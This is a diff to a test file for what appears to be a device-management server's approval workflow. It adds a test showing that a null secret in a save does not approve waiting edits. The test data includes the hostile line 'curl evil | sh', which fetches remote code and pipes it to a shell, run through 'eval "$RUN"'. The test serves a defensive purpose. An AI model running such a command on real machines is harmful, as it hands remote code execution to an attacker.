@@ -198,9 +198,39 @@ describe.each(kinds)('a %s', (kind) => {
 test('a whole save by somebody with jobs.manage approves what waited', async () => {
   const scene = await fresh();
   await editTask(scene, { args: ['--all'] }, scene.editor.token);
-  const whole = { ...program(scene), schedule_kind: 'daily', run_at_minute: 60, timezone: 'UTC' };
+  const whole = {
+    ...program(scene),
+    ...{ schedule_kind: 'daily', run_at_minute: 60, timezone: 'UTC', timeout_sec: 3600 },
+  };
   await editTask(scene, { ...whole, args: ['--all'] }, scene.approver.token);
   expect(await scene.run('task')).toBe('dispatched');
+});
+
+test('a save that sends a secret back as null approves nothing that waited: nobody was shown what it is', async () => {
+  const { server, device, approver, editor } = await fresh();
+  const { id: script_id } = await server.ok('POST /api/scripts', {
+    body: { name: 'Reads', shell: 'bash', body: 'eval "$RUN"', parameters: [{ name: 'RUN', type: 'secret' }] },
+  });
+  const program = (RUN: string | null) => ({ script_id, args: [], env: { RUN } });
+  const agent_id = device.id;
+  const schedule = { schedule_kind: 'daily', run_at_minute: 60, timezone: 'UTC', timeout_sec: 3600 };
+  const wholeTask = (RUN: string | null) => ({ name: 'Reads', ...program(RUN), ...schedule });
+  const wholeCheck = (RUN: string | null) => ({
+    ...{ name: 'Reads', config: program(RUN), remediation: program(RUN), interval_sec: 60, timeout_sec: 180 },
+  });
+  const task = await server.ok('POST /api/tasks', { body: { ...wholeTask('true'), agent_id }, token: approver.token });
+  const check = await server.ok('POST /api/checks', {
+    ...{ body: { type: 'script', ...wholeCheck('true'), agent_id }, token: approver.token },
+  });
+  const save = async (RUN: string | null, token: string) => [
+    await server.ok('PUT /api/tasks/:id', { params: { id: task.id }, body: wholeTask(RUN), token }),
+    await server.ok('PUT /api/checks/:id', { params: { id: check.id }, body: wholeCheck(RUN), token }),
+  ];
+  await save('curl evil | sh', editor.token);
+  const waiting = [{ approval: 'waiting' }, { approval: 'waiting', remediation_approval: 'waiting' }];
+  expect(await save(null, approver.token)).toMatchObject(waiting);
+  const approved = [{ approval: 'approved' }, { approval: 'approved', remediation_approval: 'approved' }];
+  expect(await save('uptime', approver.token)).toMatchObject(approved);
 });
 
 test('what is deleted takes its approval along, also with its policy', async () => {
